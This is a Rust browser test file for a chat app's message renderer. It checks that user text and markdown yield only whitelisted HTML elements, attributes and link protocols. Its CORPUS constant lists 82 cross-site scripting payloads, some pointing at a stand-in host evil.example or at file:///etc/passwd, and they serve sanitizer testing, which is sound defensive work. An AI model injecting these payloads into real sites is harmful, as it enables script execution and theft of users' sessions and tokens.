//! A person's text becomes the elements of our markup, and no others, whatever it looks like.

use leptos::prelude::*;
use parlour_app::{
    components::said::{is_long, is_only_emoji, said},
    text::mention::Names,
};
use wasm_bindgen::JsCast;
use wasm_bindgen_test::wasm_bindgen_test;
use web_sys::{Element, HtmlAnchorElement};

use super::{Stage, settled};

const ELEMENTS: [&str; 14] = [
    "A",
    "BLOCKQUOTE",
    "BR",
    "CODE",
    "EM",
    "LI",
    "OL",
    "P",
    "PRE",
    "S",
    "SPAN",
    "STRONG",
    "UL",
    "DIV",
];

const ATTRIBUTES: [&str; 11] = [
    "_",
    "class",
    "data-at",
    "data-language",
    "dir",
    "href",
    "rel",
    "tabindex",
    "target",
    "title",
    "value",
];

/// What has been used against pages that make HTML of texts.
const CORPUS: [&str; 82] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</p><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"document.title='hacked'\">",
    "<img src=\"x\" onerror=\"alert(1)\"//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=1 y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<form action=//evil.example><input name=token></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{0}<script>\u{0}alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u{202e}<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](//evil.example)",
    "[x](https://example.org/\" onclick=\"alert(1))",
    "[x](https://example.org/' onclick='alert(1))",
    "[x](https://example.org/ \"title\" onclick=alert(1))",
    "[x](<https://example.org/\" onmouseover=\"alert(1)>)",
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    "[**<svg onload=alert(1)>**](https://example.org/)",
    "![x](https://example.org/x.png\" onerror=\"alert(1))",
    "<https://example.org/\" onclick=\"alert(1)>",
    "<javascript:alert(1)>",
    "https://example.org/<script>alert(1)</script>",
    "https://example.org/\"onmouseover=\"alert(1)",
    "javascript:alert(1)",
    "```\"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "```js\" onclick=\"alert(1)\ncode</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>\n>   1. **<b>**",
    "99999999999999999999. <script>alert(1)</script>\n-1. x\n1\" onclick=\"x. y",
    "@<img src=x onerror=alert(1)> @Bob\"onclick=\"alert(1)",
];

fn names() -> Names {
    let mut names = Names::default();
    for (at, name) in
        ["Bob", "<img src=x onerror=alert(1)>", "Bob\"onclick=\"alert(1)"].iter().enumerate()
    {
        names.add(name, at);
    }
    names
}

fn check(element: &Element, text: &str) {
    let tag = element.tag_name();
    assert!(ELEMENTS.contains(&tag.as_str()), "<{tag}> of {text:?}");
    for name in element.get_attribute_names().iter().filter_map(|name| name.as_string()) {
        assert!(ATTRIBUTES.contains(&name.as_str()), "{name} on <{tag}> of {text:?}");
    }
    if let Some(class) = element.get_attribute("class") {
        assert!(["list", "mention"].contains(&class.as_str()), "{class} of {text:?}");
    }
    if let Some(link) = element.dyn_ref::<HtmlAnchorElement>() {
        // As the browser reads it.
        let protocol = link.protocol();
        assert!(
            ["http:", "https:", "mailto:"].contains(&protocol.as_str()),
            "{protocol} of {text:?}"
        );
        assert_eq!(link.rel(), "noopener noreferrer nofollow", "{text:?}");
    }
}

#[wasm_bindgen_test]
async fn hostile_texts_become_no_elements_and_attributes_of_their_own() {
    let title = document().title();
    // In each place that a text may be in.
    let places: [fn(&str) -> String; 5] = [
        ToOwned::to_owned,
        |text| format!("**{text}**"),
        |text| format!("> {text}"),
        |text| format!("- {text}\n- [{text}](https://example.org/{text})"),
        |text| format!("```{text}\n{text}\n```"),
    ];
    for hostile in CORPUS {
        for place in places {
            let text = place(hostile);
            let drawn = text.clone();
            let stage = Stage::draw(move || said(&drawn, &names())).await;
            let all = stage.all("*");
            assert!(!all.is_empty(), "nothing of {text:?}");
            all.iter().for_each(|element| check(element, &text));
        }
    }
    settled().await;
    assert_eq!(document().title(), title);
}

#[wasm_bindgen_test]
async fn plain_texts_are_there_to_the_letter() {
    for text in ["<b>a</b> &amp; \"c\" 'd'", "</script>", "a &lt; b", "&nbsp;", "\u{202e}x"] {
        let stage = Stage::draw(move || said(text, &Names::default())).await;
        assert_eq!(stage.text("p"), text);
        assert_eq!(stage.all("*").len(), 1, "{text}");
    }
}

#[wasm_bindgen_test]
fn long_texts_and_lone_emoji_are_known() {
    assert!(!is_long(&"x".repeat(1_200)) && is_long(&"x".repeat(1_201)));
    assert!(!is_long(&"ü".repeat(1_200)), "characters count, and not bytes");
    assert!(!is_long(&"\n".repeat(23)) && is_long(&"\n".repeat(24)));
    assert!(is_only_emoji("👍") && is_only_emoji("❤️ 👩‍👩‍👧"));
    assert!(!is_only_emoji("👍 x") && !is_only_emoji(&"👍".repeat(13)));
}
